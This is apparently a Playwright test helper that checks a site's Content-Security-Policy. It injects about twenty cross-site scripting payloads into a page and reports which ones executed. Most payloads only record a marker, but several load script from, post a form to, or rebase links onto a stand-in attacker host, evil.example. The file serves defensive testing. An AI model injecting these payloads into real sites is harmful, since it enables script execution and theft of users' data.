import type { BrowserContext } from "@playwright/test";

const mark = (name: string) => `(window.ran ??= []).push('${name}')`;

/** Payloads for a place where the site does not escape its input. */
const holes: readonly string[] = [
	`<script>${mark("inline script")}</script>`,
	`<script src="data:text/javascript,${mark("data script")}"></script>`,
	`<script src="https://evil.example/x.js"></script>`,
	`<script type="module">${mark("module")}</script>`,
	`<script nonce="00000000-0000-0000-0000-000000000000">${mark("guessed nonce")}</script>`,
	`<img src="/nothing-there" onerror="${mark("image handler")}">`,
	`<svg onload="${mark("svg handler")}"><script>${mark("svg script")}</script></svg>`,
	`<details open ontoggle="${mark("toggle handler")}">x</details>`,
	`<input autofocus onfocus="${mark("focus handler")}">`,
	`<iframe srcdoc="<script>parent.${mark("frame")}</script>"></iframe>`,
	`<iframe src="javascript:parent.${mark("frame address")}"></iframe>`,
	`<object data="data:text/html,<script>parent.${mark("object")}</script>"></object>`,
	`<embed src="data:text/html,<script>parent.${mark("embed")}</script>">`,
	`<a id="hole-link" href="javascript:${mark("address")}">x</a>`,
	`<form id="hole-form" action="https://evil.example/" method="post"><input name="a"></form>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:${mark("refresh")}">`,
	`<link rel="stylesheet" href="data:text/css,body{--hole:1}">`,
	`<style>body { --hole: 1 }</style>`,
	`<div style="--hole: 1" id="hole-style">x</div>`,
];

/**
 * Opens a page with the payloads injected into its HTML in transit and its Content-Security-Policy unchanged. Returns
 * the names of the payloads that ran.
 */
export async function openWithHoles(
	context: BrowserContext,
	address: string,
): Promise<{ ran: readonly string[]; tried: number }> {
	const page = await context.newPage();
	let leftFor = "";
	// Requests that the policy blocks do not reach this route.
	await page.route("https://evil.example/**", async (route) => {
		leftFor = route.request().url();
		await route.fulfill({ body: mark("foreign script"), contentType: "text/javascript" });
	});
	await page.route(address, async (route) => {
		const response = await route.fetch();
		const html = await response.text();
		await route.fulfill({ response, body: html.replace(/(<main\b[^>]*>)/, `$1${holes.join("")}`) });
	});
	await page.goto(address, { waitUntil: "load" });
	const ran = await page.evaluate(() => {
		document.getElementById("hole-link")?.click();
		const element = document.getElementById("hole-style");
		const styled = [document.body, ...(element ? [element] : [])].some(
			(each) => getComputedStyle(each).getPropertyValue("--hole") !== "",
		);
		const based = document.baseURI.startsWith("https://evil");
		return new Promise<string[]>((resolve) => {
			requestAnimationFrame(() =>
				setTimeout(() => {
					const { ran: scripts = [] } = window as unknown as { ran?: string[] };
					resolve([...scripts, ...(styled ? ["style"] : []), ...(based ? ["base"] : [])]);
				}, 50),
			);
		});
	});
	// Submitted last: without a policy the form leaves the page.
	await page.evaluate(() => (document.getElementById("hole-form") as HTMLFormElement | null)?.requestSubmit());
	await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 50))).catch(() => {});
	await page.close();
	return { ran: leftFor ? [...ran, `asked for ${leftFor}`] : ran, tried: holes.length };
}
